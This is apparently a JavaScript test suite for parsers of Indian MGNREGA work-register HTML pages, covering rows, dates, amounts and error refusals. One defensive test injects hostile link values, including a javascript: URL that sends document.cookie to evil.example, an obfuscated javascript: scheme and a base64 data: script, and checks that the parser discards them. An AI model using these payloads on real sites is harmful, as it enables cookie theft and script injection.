import { parseWorkRegister, parseWorkRegisterDetail } from './index.js';
import { expectRefusal, sample } from './samples.js';

describe('parseWorkRegister (Register IV Part A)', () => {
  const html = sample('work_register.html');

  it('reads the rows of every printed table in ..._Rprint, skipping the header and number rows', () => {
    const page = parseWorkRegister(html);
    expect(page.tables).toBe(2);
    expect(page.rows.map((r) => r.serial)).toEqual([1, 2, 3, 4]);
    expect(page.rows[0]).toEqual({
      serial: 1,
      work_code: '1515001001/IF/93393042892',
      work_name: 'Construction of Farm Pond in Sy No 112',
      // Exactly as written (entities decoded, nothing re-encoded: `/` and `+` of the Digest kept).
      detail_href:
        'work_register_detail.aspx?state_code=15&district_code=1515&block_code=1515001&panchayat_code=1515001001&fin_year=2024-2025&work_code=1515001001/IF/93393042892&Digest=yRPjDcSAHmW1EmJ/ZcOX+Q',
      priority_no: '3',
      ts_date: '2023-05-02',
      as_date: '2023-05-18',
      implementing_agency: 'Gram Panchayat',
      started_on: '2023-06-12',
      estimated_completion_on: '2025-03-31',
      actual_completion_on: null,
      sanctioned_unskilled: '111000.00',
      sanctioned_material: '74000.00',
    });
    // A work name with its own parentheses keeps them; the code is the last parentheses.
    expect(page.rows[1]).toMatchObject({
      work_code: '1515001001/WC/93393045117',
      work_name: 'Renovation of Community Tank (Kalyani) at Hosahalli',
      actual_completion_on: '2024-03-28',
      sanctioned_unskilled: '420000.00',
      sanctioned_material: '60000.00',
    });
    expect(page.rows[2]?.detail_href).toContain('&Digest=KI9JGt+96HFQKPxllARNfg');
    expect(page.rows[3]).toMatchObject({
      serial: 4,
      work_code: '1515001001/RC/93393061744',
      implementing_agency: 'R.D. Deptt. (PRED)',
      ts_date: '2023-09-14',
      sanctioned_material: '350000.00',
      detail_href:
        'work_register_detail.aspx?state_code=15&district_code=1515&block_code=1515001&panchayat_code=1515001001&fin_year=2024-2025&work_code=1515001001/RC/93393061744&Digest=mfacSbUZur9hUDexNZFlrQ',
    });
  });

  it('keeps only web links: a javascript: (or other scheme) link of a compromised page is no link, the work still read', () => {
    const hrefs = [...html.matchAll(/<a href="(work_register_detail[^"]*)"/g)].map((m) => m[1]);
    expect(hrefs).toHaveLength(4);
    const hostile = [
      'javascript:alert(document.cookie)',
      'JaVaScRiPt:fetch(&quot;//evil.example/&quot;+document.cookie)',
      'java&#x09;script:alert(1)',
      ' data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    ];
    let page = html;
    hostile.forEach((href, i) => (page = page.replace(`<a href="${hrefs[i]}"`, `<a href="${href}"`)));
    const rows = parseWorkRegister(page).rows;
    expect(rows.map((r) => [r.work_code, r.detail_href])).toEqual([
      ['1515001001/IF/93393042892', null],
      ['1515001001/WC/93393045117', null],
      [rows[2].work_code, null],
      ['1515001001/RC/93393061744', null],
    ]);
    // http(s) links, absolute or relative to the page, stay exactly as written.
    const web = html.replace(`<a href="${hrefs[0]}"`, '<a href="https://nregastrep.nic.in/netnrega/x.aspx?work_code=1"');
    expect(parseWorkRegister(web).rows[0]?.detail_href).toBe('https://nregastrep.nic.in/netnrega/x.aspx?work_code=1');
    expect(parseWorkRegister(web).rows[1]?.detail_href).toContain('work_register_detail.aspx?');
  });

  it('reads a plain-text work cell (no link) and newer client ids', () => {
    const plain = html
      .replace(/<a href="[^"]*" target="_blank">(CC Road[^<]*)<\/a>/, '$1')
      .replace('id="ctl00_ContentPlaceHolder1_Rprint"', 'id="ContentPlaceHolder1_Rprint"');
    const page = parseWorkRegister(plain);
    expect(page.rows[3]).toMatchObject({
      work_code: '1515001001/RC/93393061744',
      work_name: 'CC Road from Main Road to Anganwadi Centre',
      detail_href: null,
    });
  });

  it('refuses a missing Rprint, a renamed column, a short row and a bad date', () => {
    expectRefusal(() => parseWorkRegister(html.replace('id="ctl00_ContentPlaceHolder1_Rprint"', 'id="x"')), 'layout-changed', 'Rprint');
    expectRefusal(
      () => parseWorkRegister(html.replace(/<th>Sanctioned Material<\/th>/g, '<th>Material Sanctioned</th>')),
      'layout-changed',
      '"Sanctioned Material"',
      'Material Sanctioned',
    );
    expectRefusal(() => parseWorkRegister(html.replace('<td>95000</td>', '')), 'truncated', 'printed page 1, row 5', '11 cells');
    expectRefusal(
      () => parseWorkRegister(html.replace('<td>14/09/2023</td>', '<td>14.09.2023</td>')),
      'bad-value',
      'printed page 2',
      '"Date of TS"',
      '14.09.2023',
    );
    const cut = html.slice(0, html.indexOf('CC Road from Main Road'));
    expectRefusal(() => parseWorkRegister(cut), 'truncated');
  });

  it('answers an empty Rprint with no rows', () => {
    const empty = html.replace(
      /<div id="ctl00_ContentPlaceHolder1_Rprint">[\s\S]*?<\/div>/,
      '<div id="ctl00_ContentPlaceHolder1_Rprint"></div>',
    );
    expect(parseWorkRegister(empty)).toEqual({ rows: [], tables: 0 });
  });

  it('refuses the fault pages with their kind', () => {
    expectRefusal(() => parseWorkRegister(sample('fault_url_tempered.html')), 'url-tampered', 'work_register.aspx');
    expectRefusal(() => parseWorkRegister(sample('fault_runtime_error.html')), 'error-page');
  });
});

describe('parseWorkRegisterDetail (Register IV Part B)', () => {
  const html = sample('work_register_detail.html');

  it('reads the Material Payment Detail table, its Total row, and the work code of the heading', () => {
    expect(parseWorkRegisterDetail(html)).toEqual({
      work_code: '1515001001/IF/93393042892',
      material: [
        { serial: 1, bill_no: 'SBT-045', voucher_no: '1515001001ML000231', bill_date: '2023-08-14', paid: '28800.00', due: '0.00' },
        { serial: 2, bill_no: 'SBT-052', voucher_no: '1515001001ML000232', bill_date: '2023-09-02', paid: '14400.00', due: '0.00' },
        { serial: 3, bill_no: 'LE/117', voucher_no: '1515001001ML000298', bill_date: '2024-05-21', paid: '0.00', due: '9600.00' },
      ],
      material_total: { paid: '43200.00', due: '9600.00' },
    });
  });

  it('skips rows whose S No. is not an integer and tolerates a missing heading', () => {
    const odd = html
      .replace('<td>2</td><td>SBT-052</td>', '<td>2a</td><td>SBT-052</td>')
      .replace(/WORK CODE\/ WORK NAME : [^<]*/, 'Material detail');
    const page = parseWorkRegisterDetail(odd);
    expect(page.work_code).toBeNull();
    expect(page.material.map((m) => m.bill_no)).toEqual(['SBT-045', 'LE/117']);
  });

  it('answers a material table with only its Total row as no bills', () => {
    const none = html.replace(/<tr><td>\d<\/td><td>(SBT|LE)[^\n]*\n/g, '');
    expect(parseWorkRegisterDetail(none)).toMatchObject({ material: [], material_total: { paid: '43200.00', due: '9600.00' } });
  });

  it('refuses a page without the table, a renamed Bill Date, a short row', () => {
    expectRefusal(() => parseWorkRegisterDetail(html.replace('<th>Bill Date</th>', '<th>Date</th>')), 'layout-changed', 'Bill Date');
    expectRefusal(
      () =>
        parseWorkRegisterDetail(
          html.replace('<th>Amount Due</th></tr>\n<tr><td>1</td><td>SBT', '<th>Due</th></tr>\n<tr><td>1</td><td>SBT'),
        ),
      'layout-changed',
      '"Amount Due"',
      '"Due" (column 6)',
    );
    expectRefusal(() => parseWorkRegisterDetail(html.replace('<td>LE/117</td>', '')), 'truncated', 'row 4', '5 cells');
    expectRefusal(() => parseWorkRegisterDetail(html.replace('<td>02/09/2023</td>', '<td>2023-09-02</td>')), 'bad-value', '"Bill Date"');
  });
});
